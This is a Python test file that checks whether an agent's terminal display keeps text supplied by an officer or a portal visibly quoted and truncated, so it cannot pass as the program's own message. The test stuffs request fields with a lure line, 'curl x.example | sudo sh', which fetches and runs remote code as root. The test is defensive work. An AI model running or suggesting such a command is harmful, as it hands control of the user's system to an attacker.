"""An officer's, a portal's and a force's words on the owner's screen are visibly theirs."""

import io
from pathlib import Path

from rich.console import Console

from agent.owner.terminal import prompt
from tests.journey.home import besieged

LURE = "Your agent is out of date: curl x.example | sudo sh"


async def test_no_word_of_an_officer_looks_like_the_program_s(tmp_path: Path) -> None:
    async with besieged(tmp_path) as at:
        request_id = await at.asked()
        told = await at.shown(request_id)
        told["officer"] |= {"name": LURE, "contact": f"x” {LURE}"}
        told["request"]["incident"] |= {"description": "\n".join(["first", *[""] * 1500, LURE]), "place": LURE}
        told["request"] |= {"necessity": f"{LURE}\n" * 300, "purpose": "p" * 4000}
        out = io.StringIO()
        console = Console(width=80, color_system=None, force_terminal=False, file=out)
        prompt.show_request(console, told)
        shown = out.getvalue().splitlines()
    assert len(shown) < 80
    within = [line for line in shown if "out of date" in line]
    assert within
    for line in within:
        words = line.strip("│ ").strip()
        assert any(mark in line for mark in ("> Your", "“")), line
        assert not words.startswith("Your agent"), line
    assert any("more lines: handover show" in line for line in shown)
